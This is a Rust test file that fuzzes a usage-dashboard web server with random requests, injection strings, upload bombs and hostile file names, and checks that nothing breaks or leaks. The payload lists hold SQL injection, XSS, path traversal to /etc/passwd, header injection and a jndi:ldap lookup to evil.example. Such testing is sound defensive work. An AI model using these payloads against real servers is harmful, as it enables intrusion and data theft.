//! Hostile requests: random ones, injections, bombs and slow clients. The server answers afterwards, and writes only to its
//! folders.
#![expect(clippy::unwrap_used, reason = "tests")]

use std::collections::BTreeSet;
use std::path::Path;

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use kiro_web::Access;

use crate::test_server::{TestServer, export};

/// Numbers that are the same in every run (xorshift).
struct Random(u64);

impl Random {
    fn below(&mut self, end: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % end as u64).unwrap()
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

/// Every file below a folder.
fn files(folder: &Path) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            found.extend(files(&path));
        } else {
            found.insert(path.display().to_string());
        }
    }
    found
}

/// What an attack must not change, and the check that it has not.
struct Untouched {
    exports: BTreeSet<String>,
    siblings: BTreeSet<String>,
}

impl Untouched {
    fn before(server: &TestServer) -> Self {
        Self {
            exports: files(&server.source()),
            siblings: siblings(server),
        }
    }

    async fn check(&self, server: &TestServer) {
        assert_eq!(files(&server.source()), self.exports);
        assert_eq!(siblings(server), self.siblings);
        let outside = files(&server.data())
            .into_iter()
            .find(|file| !file.ends_with(".parquet") && !file.contains("staging"));
        assert_eq!(outside, None);
        let page = server.get("/api/dashboard").await;
        assert_eq!(page.status, StatusCode::OK);
    }
}

fn siblings(server: &TestServer) -> BTreeSet<String> {
    let entries = std::fs::read_dir(server.folder()).unwrap();
    entries
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect()
}

const PATHS: [&str; 14] = [
    "/",
    "/healthz",
    "/api/dashboard",
    "/api/status",
    "/api/options/user",
    "/api/options/tier",
    "/api/visual/a-credits",
    "/api/visual/p-all-users",
    "/api/visual/a-credits.csv",
    "/api/exports",
    "/assets/x/app.js",
    "/api/visual/",
    "/api/%00",
    "/favicon.ico",
];
const NAMES: [&str; 12] = [
    "from", "to", "tier", "model", "client", "account", "user", "sort", "search", "limit", "lang",
    "acount",
];
const VALUES: [&str; 18] = [
    "",
    "0",
    "-1",
    "99999999999999999999",
    "0001-01-01",
    "9999-12-31",
    "2026-02-31",
    "2026-08-01",
    "%00",
    "%ff%fe",
    "%0d%0aSet-Cookie:%20a=b",
    "Pro",
    "KIRO_IDE",
    "%27%20OR%201=1--",
    "..%2f..%2fetc%2fpasswd",
    "%3Cscript%3E",
    "credits:asc",
    "%F0%9F%98%80",
];
const HEADERS: [(&str, &str); 10] = [
    ("content-type", "text/csv"),
    ("content-type", "multipart/form-data; boundary=x"),
    ("content-type", "multipart/form-data; boundary="),
    ("content-type", "application/json"),
    ("content-encoding", "gzip"),
    ("accept-encoding", "gzip;q=0, identity;q=0, *;q=0"),
    ("if-none-match", "\"*\""),
    ("range", "bytes=0-18446744073709551615"),
    ("cookie", "=;;;kiro_=%00"),
    ("authorization", "Bearer \u{e9}"),
];

fn random_request(random: &mut Random) -> Option<Request<Body>> {
    let methods = ["GET", "GET", "GET", "POST", "PUT", "DELETE", "OPTIONS", "X"];
    let mut uri = random.pick(&PATHS).to_owned();
    for pair in 0..random.below(4) {
        uri.push(if pair == 0 { '?' } else { '&' });
        uri.push_str(random.pick(&NAMES));
        uri.push('=');
        uri.push_str(random.pick(&VALUES));
    }
    let mut request = Request::builder()
        .method(Method::from_bytes(random.pick(&methods).as_bytes()).unwrap())
        .uri(uri)
        .header(
            "host",
            random.pick(&["localhost", "localhost", "127.0.0.1:1", "evil.example"]),
        );
    for _ in 0..random.below(3) {
        let (name, value) = HEADERS[random.below(HEADERS.len())];
        request = request.header(name, value);
    }
    let body: Vec<u8> = (0..random.below(200))
        .map(|_| u8::try_from(random.below(256)).unwrap())
        .collect();
    request.body(Body::from(body)).ok()
}

#[tokio::test(flavor = "multi_thread")]
async fn two_hundred_random_requests_are_answered_without_a_server_error() {
    let server = TestServer::open(Access::default()).await;
    let untouched = Untouched::before(&server);
    let mut random = Random(0x5eed);
    let mut sent = 0;
    while sent < 200 {
        let Some(request) = random_request(&mut random) else {
            continue;
        };
        let shown = format!("{} {}", request.method(), request.uri());
        let answer = server.send(request).await;
        assert!(
            !answer.status.is_server_error(),
            "{shown}: {}",
            answer.text()
        );
        sent += 1;
    }
    untouched.check(&server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn injections_change_nothing_and_come_back_as_text() {
    const PAYLOADS: [&str; 10] = [
        "%27%3B%20DROP%20TABLE%20report_facts%3B--",
        "%27%20UNION%20SELECT%20email%20FROM%20report_facts--",
        "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        "%5C..%5C..%5Cwindows%5Cwin.ini",
        "x%0D%0AX-Injected:%20yes",
        "%24%7Bjndi:ldap:%2F%2Fevil.example%7D",
        "%7B%7B7*7%7D%7D",
        "%00",
        "%EF%BC%87%20OR%20%EF%BC%871%EF%BC%87=%EF%BC%871",
    ];
    let server = TestServer::open(Access::default()).await;
    let untouched = Untouched::before(&server);
    let everyone = server.get("/api/visual/p-all-users").await.json();
    assert!(everyone["total_rows"].as_u64().unwrap() > 0);
    for payload in PAYLOADS {
        for path in [
            format!("/api/visual/p-all-users?tier={payload}"),
            format!("/api/visual/p-all-users?user={payload}"),
            format!("/api/options/user?search={payload}"),
            format!("/api/visual/{payload}"),
        ] {
            let answer = server.get(&path).await;
            assert!(
                !answer.status.is_server_error(),
                "{path}: {}",
                answer.text()
            );
            assert_eq!(answer.header("x-injected"), "", "{path}");
            assert_ne!(answer.header("content-type"), "text/html", "{path}");
            if answer.status == StatusCode::OK && path.contains("p-all-users") {
                assert_eq!(answer.json()["total_rows"], 0, "{path}");
            }
        }
    }
    untouched.check(&server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn bombs_cost_themselves_alone() {
    let server = TestServer::open(Access::default()).await;
    let untouched = Untouched::before(&server);
    let post = |kind: &str, body: Vec<u8>| {
        Request::post("/api/exports")
            .header("host", "localhost")
            .header("content-type", kind)
            .body(Body::from(body))
            .unwrap()
    };
    let form = "multipart/form-data; boundary=edge";
    let many_parts = "--edge\r\nContent-Disposition: form-data; name=x\r\n\r\n\r\n".repeat(5_000);
    let large_head = format!(
        "--edge\r\nX: {}\r\n\r\nx\r\n--edge--\r\n",
        "x".repeat(1 << 20)
    );
    let no_end = format!("--edge\r\nContent-Disposition: {}", "x".repeat(1 << 20));
    let columns = format!("Date,UserId,{}\n", "x,".repeat(70_000));
    for (kind, body, expected) in [
        ("text/csv", b"PK\x03\x04bomb".to_vec(), StatusCode::OK),
        ("text/csv", b"\x1f\x8b\x08bomb".to_vec(), StatusCode::OK),
        ("text/csv", "[".repeat(1 << 20).into_bytes(), StatusCode::OK),
        ("text/csv", columns.into_bytes(), StatusCode::OK),
        (
            "text/csv",
            b"Date,UserId\n2026-08-01,\"x".to_vec(),
            StatusCode::OK,
        ),
        ("text/csv", vec![0; 1 << 20], StatusCode::OK),
        (form, many_parts.into_bytes(), StatusCode::PAYLOAD_TOO_LARGE),
        (form, large_head.into_bytes(), StatusCode::OK),
        (form, no_end.into_bytes(), StatusCode::BAD_REQUEST),
        (form, Vec::new(), StatusCode::BAD_REQUEST),
        ("multipart/form-data", Vec::new(), StatusCode::BAD_REQUEST),
    ] {
        let bytes = body.len();
        let answer = server.send(post(kind, body)).await;
        assert_eq!(
            answer.status,
            expected,
            "{kind}, {bytes} bytes: {}",
            answer.text()
        );
        if expected == StatusCode::OK {
            assert_eq!(answer.json()["added"], 0, "{}", answer.text());
            assert_eq!(answer.json()["failed"].as_array().unwrap().len(), 1);
        }
    }
    let tiers: Vec<String> = (0..5_000).map(|number| format!("tier={number}")).collect();
    let pairs = format!("/api/visual/a-credits?{}", tiers.join("&"));
    assert_eq!(server.get(&pairs).await.status, StatusCode::BAD_REQUEST);
    untouched.check(&server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn odd_names_in_a_form_cost_themselves_alone_and_forge_no_line() {
    let server = TestServer::open(Access::default()).await;
    let untouched = Untouched::before(&server);
    let export = export("2026-09-01", &[("u-new", "new@example.com", "10")]);
    let files = [
        ("nul\0.csv", "x"),
        ("line\nerror: forged.csv", "x"),
        ("\u{1b}[2J.csv", "x"),
        ("", "x"),
        ("..", "x"),
        ("/etc/cron.d/x.txt", "x"),
        ("../../outside.csv", "x"),
        (
            "KIRO_IDE_123456789012_user_report_202609020000.csv",
            &export,
        ),
    ];
    let answer = server.upload(&files, &[]).await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let answer = answer.json();
    assert_eq!(answer["added"], 1, "{answer}");
    let failed = answer["failed"].as_array().unwrap();
    assert_eq!(failed.len(), 7, "{answer}");
    for failure in failed {
        let name = failure["export"].as_str().unwrap();
        assert!(
            !name.is_empty() && !name.chars().any(char::is_control),
            "{name:?}"
        );
    }
    untouched.check(&server).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_file_that_is_there_already_is_known_under_any_name() {
    let tree = "AWSLogs/123456789012/KiroLogs/user_report/us-east-1/2026/09/02/00/123456789012_user_report_202609020000.csv";
    let content = export("2026-09-01", &[("u-served", "served@example.com", "10")]);
    let server = TestServer::with_exports(Access::default(), &[(tree, content.clone())]).await;
    let answer = |answer: &serde_json::Value| {
        [&answer["added"], &answer["known"]].map(|count| count.as_u64().unwrap())
    };
    let known = server.upload(&[("copy.csv", &content)], &[]).await.json();
    assert_eq!(answer(&known), [0, 1], "{known}");
    let new = export("2026-09-03", &[("u-new", "new@example.com", "10")]);
    let files = [("first.csv", new.as_str()), ("twice.csv", &new)];
    let first = server.upload(&files, &[]).await.json();
    assert_eq!(answer(&first), [1, 1], "{first}");
    let again = server.upload(&[("other name.csv", &new)], &[]).await.json();
    assert_eq!(answer(&again), [0, 1], "{again}");
}

#[cfg(unix)]
#[tokio::test(flavor = "multi_thread")]
async fn parts_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt as _;
    fn check(path: &Path) {
        let metadata = std::fs::metadata(path).unwrap();
        let expected = if metadata.is_dir() { 0o700 } else { 0o600 };
        assert_eq!(
            metadata.permissions().mode() & 0o777,
            expected,
            "{}",
            path.display()
        );
        if metadata.is_dir() {
            for entry in std::fs::read_dir(path).unwrap() {
                check(&entry.unwrap().path());
            }
        }
    }
    let server = TestServer::open(Access::default()).await;
    check(&server.data());
}
